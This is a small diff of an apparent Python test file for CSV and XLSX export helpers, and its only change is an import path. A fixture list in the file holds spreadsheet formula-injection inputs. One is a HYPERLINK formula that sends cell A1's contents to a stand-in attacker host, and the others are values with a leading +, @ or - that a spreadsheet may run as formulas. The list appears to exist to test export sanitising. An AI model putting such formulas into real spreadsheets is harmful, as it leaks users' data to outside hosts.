@@ -7,7 +7,7 @@ from zoneinfo import ZoneInfo
 
 from openpyxl import load_workbook
 
-from workflows.exports import Sheet, to_csv, to_xlsx
+from workflows.reports.exports import Sheet, to_csv, to_xlsx
 
 MSK = ZoneInfo("Europe/Moscow")
 TRICKS = ['=HYPERLINK("http://evil.example/?"&A1,"жми")', "+7 928 000", "@SUM(1)", "-1+2"]
